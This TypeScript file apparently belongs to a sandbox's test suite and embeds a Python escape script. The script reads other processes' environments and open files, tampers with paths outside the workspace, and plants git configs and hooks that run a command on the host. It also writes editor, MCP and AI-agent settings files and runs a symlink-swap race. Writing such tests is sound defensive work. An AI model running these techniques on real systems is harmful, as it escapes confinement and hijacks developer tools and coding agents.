/**
 * The command that attacks from inside the sandbox: a python program that takes a JSON `Attack` as its argument. It reads
 * whatever it can reach and prints it, tries to change every path it is told of, and carries out the given steps. Paths
 * are latin-1 texts of their bytes, so that names that are not valid UTF-8 survive.
 */
export interface Attack {
  /** Folders to read completely. */
  readonly read: readonly string[];
  /** Files and folders outside the workspace to change. */
  readonly outside: readonly string[];
  /** Protected names to change or create. */
  readonly protected: readonly string[];
  readonly steps: readonly Step[];
  /** A shell command that leaves a trace if anything runs it on the host. */
  readonly trace: string;
  /** The index of a repository with one file, in base64. */
  readonly index: string;
  /** A folder whose entries are swapped until the process is killed, instead of everything else. */
  readonly swap?: readonly Swap[];
}

export interface Step {
  readonly kind:
    | "repository"
    | "repository with hooks"
    | "commondir"
    | "bare"
    | "bare with commondir"
    | "git file"
    | "git link"
    | "unlistable"
    | "unlistable hooks"
    | "gitlink in index"
    | "editor folder"
    | "agent settings"
    | "new config";
  readonly path: string;
  /** A second place, for steps that need one. */
  readonly store?: string;
}

/** Exchanges `path` and a link beside it that leads to `target`. `make` creates the path first. */
export interface Swap {
  readonly path: string;
  readonly target: string;
  readonly make?: "folder" | "file" | "editor folder" | "repository" | undefined;
}

export const ATTACK_SCRIPT = String.raw`
import os, sys, json, stat
A = json.loads(sys.argv[1])
b = lambda text: text.encode("latin1")
out = sys.stdout.buffer

def attempt(work, *args):
    try:
        return work(*args)
    except (OSError, ValueError):
        return None

def read(path):
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            out.write(os.read(fd, 4096) + b"\n")
    finally:
        os.close(fd)

seen = 0
def walk(path, depth=0):
    global seen
    seen += 1
    if seen > 1500 or depth > 14:
        return
    state = attempt(os.lstat, path)
    if state is None:
        return
    if stat.S_ISDIR(state.st_mode):
        names = attempt(os.listdir, path)
        if names is None or not state.st_mode & 0o100:
            attempt(os.chmod, path, 0o700)
            names = attempt(os.listdir, path) or []
        for name in names:
            walk(path + b"/" + name, depth + 1)
        return
    if not stat.S_IMODE(state.st_mode) & 0o400:
        attempt(os.chmod, path, 0o600)
    attempt(read, path)
    if stat.S_ISLNK(state.st_mode):
        for name in (attempt(os.listdir, path) or [])[:20]:
            attempt(read, path + b"/" + name)

def write(path, content=b"changed\n", flags=os.O_WRONLY | os.O_CREAT | os.O_NONBLOCK):
    fd = os.open(path, flags | os.O_APPEND, 0o755)
    try:
        os.write(fd, content)
    finally:
        os.close(fd)

def put(path, content, mode=0o644):
    attempt(os.makedirs, os.path.dirname(path), 0o755)
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NONBLOCK, mode)
    try:
        os.write(fd, content)
    finally:
        os.close(fd)

def processes():
    for name in os.listdir(b"/proc"):
        if not name.isdigit():
            continue
        folder = b"/proc/" + name
        attempt(read, folder + b"/environ")
        for way in (b"/root", b"/cwd"):
            for path in A["outside"][:12]:
                attempt(read, folder + way + b(path))
        for fd in (attempt(os.listdir, folder + b"/fd") or [])[:20]:
            if name != b"self" and int(fd) > 2:
                attempt(read, folder + b"/fd/" + fd)

def outside(path):
    attempt(write, path)
    attempt(write, path + b"/planted")
    attempt(os.mkdir, path + b"/planted-folder")
    attempt(os.rename, path, path + b"~")
    attempt(os.link, path, b(A["read"][0]) + b"/hard-link")
    attempt(read, b(A["read"][0]) + b"/hard-link")
    attempt(os.unlink, path)
    attempt(os.truncate, path, 0)
    attempt(os.chmod, path, 0o777)

CONTENTS = [b"tasks.json", b"settings.json", b"pre-commit", b"hooks/pre-commit", b"config", b"mcp.json"]
def change(path):
    attempt(write, path)
    for name in CONTENTS:
        attempt(write, path + b"/" + name)
    for name in (attempt(os.listdir, path) or [])[:8]:
        attempt(write, path + b"/" + name)
    if stat.S_ISLNK((attempt(os.lstat, path) or os.lstat(b"/")).st_mode):
        target = os.path.realpath(path)
        attempt(write, target)
        for name in CONTENTS:
            attempt(write, target + b"/" + name)
        for name in (attempt(os.listdir, target) or [])[:8]:
            attempt(write, target + b"/" + name)
        if attempt(os.rename, target, target + b"~") is None:
            attempt(os.mkdir, target)
    attempt(os.mkdir, path)
    attempt(write, path + b"/tasks.json")
    root = b(A["read"][0])
    above = os.path.dirname(path)
    while above.startswith(root + b"/"):
        moved = above + b"~moved"
        try:
            os.rename(above, moved)
        except OSError:
            pass
        else:
            attempt(os.makedirs, os.path.dirname(path))
            attempt(write, path)
            break
        above = os.path.dirname(above)
    attempt(os.rename, path, path + b"~away")
    attempt(os.unlink, path)
    attempt(os.rmdir, path)
    evil = root + b"/evil-folder"
    attempt(put, evil + b"/tasks.json", b"evil")
    attempt(os.symlink, evil, path)
    attempt(put, path, b"evil")

def config(trace):
    return b'[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "' + trace + b'; false"\n\tsshCommand = "' + trace + b'; false"\n'
TRACE = b(A["trace"])
import base64
INDEX = base64.b64decode(A["index"])

def interior(git, text, bare=False):
    put(git + b"/HEAD", b"ref: refs/heads/main\n")
    for name in (b"/objects", b"/refs"):
        attempt(os.makedirs, git + name)
    put(git + b"/index", INDEX)
    if text is not None:
        put(git + b"/config", text)

PLAIN = b"[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
def step(kind, path, store):
    git = path + b"/.git"
    if kind == "repository":
        interior(git, config(TRACE))
    elif kind == "new config":
        write(git + b"/config", config(TRACE))
    elif kind == "repository with hooks":
        interior(git, PLAIN)
        put(git + b"/hooks/post-index-change", b"#!/bin/sh\n" + TRACE + b"\n", 0o755)
    elif kind == "commondir":
        interior(git, PLAIN)
        put(git + b"/commondir", store + b"\n")
        put(store + b"/config", config(TRACE))
        for name in (b"/objects", b"/refs"):
            attempt(os.makedirs, store + name)
    elif kind == "bare":
        interior(path, config(TRACE) + b"\tworktree = " + path + b"\n")
    elif kind == "bare with commondir":
        put(path + b"/HEAD", b"ref: refs/heads/main\n")
        put(path + b"/index", INDEX)
        put(path + b"/commondir", store + b"\n")
        put(store + b"/config", config(TRACE) + b"\tworktree = " + path + b"\n")
        for name in (b"/objects", b"/refs"):
            attempt(os.makedirs, store + name)
    elif kind == "git file":
        interior(store, config(TRACE))
        put(git, b"gitdir: " + store + b"\n")
    elif kind == "git link":
        interior(store, config(TRACE))
        os.symlink(store, git)
    elif kind == "unlistable":
        interior(git, config(TRACE))
        os.chmod(path, 0o311)
    elif kind == "unlistable hooks":
        interior(git, PLAIN)
        put(git + b"/hooks/post-index-change", b"#!/bin/sh\n" + TRACE + b"\n", 0o755)
        os.chmod(git + b"/hooks", 0o311)
    elif kind == "gitlink in index":
        attempt(interior, git, config(TRACE))
        attempt(write, git + b"/config", config(TRACE))
        root = b(A["read"][0])
        import subprocess
        entry = b"160000,1234567812345678123456781234567812345678," + path[len(root) + 1:]
        subprocess.run([b"git", b"update-index", b"--add", b"--cacheinfo", entry], cwd=root, stderr=subprocess.DEVNULL)
    elif kind == "editor folder":
        put(path + b"/.vscode/tasks.json", b"evil")
        put(path + b"/.envrc", b"evil")
        put(path + b"/.mcp.json", b"evil")
    elif kind == "agent settings":
        put(path + b"/.claude/settings.json", b"evil")
        put(path + b"/.github/hooks/x.json", b"evil")

def swap(swaps):
    import ctypes
    call = ctypes.CDLL(None, use_errno=True).syscall
    number = 316 if os.uname().machine == "x86_64" else 276
    pairs = []
    for one in swaps:
        path, make = b(one["path"]), one.get("make")
        if make == "folder":
            attempt(os.makedirs, path)
            attempt(put, path + b"/file", b"x")
        elif make == "file":
            attempt(put, path, b"x")
        elif make == "editor folder":
            attempt(put, path + b"/tasks.json", b"x")
        elif make == "repository":
            attempt(interior, path, PLAIN)
        other = path + b".swap"
        attempt(os.symlink, b(one["target"]), other)
        pairs.append((ctypes.c_char_p(path), ctypes.c_char_p(other)))
    out.write(b"ready\n")
    out.flush()
    while True:
        for left, right in pairs:
            call(number, -100, left, -100, right, 2)

if A.get("swap"):
    swap(A["swap"])
for root in A["read"]:
    walk(b(root))
processes()
for path in A["outside"]:
    outside(b(path))
for one in A["steps"]:
    attempt(step, one["kind"], b(one["path"]), b(one.get("store", "")))
for path in A["protected"]:
    change(b(path))
for root in A["read"]:
    walk(b(root))
out.write(b"attacked\n")
`;
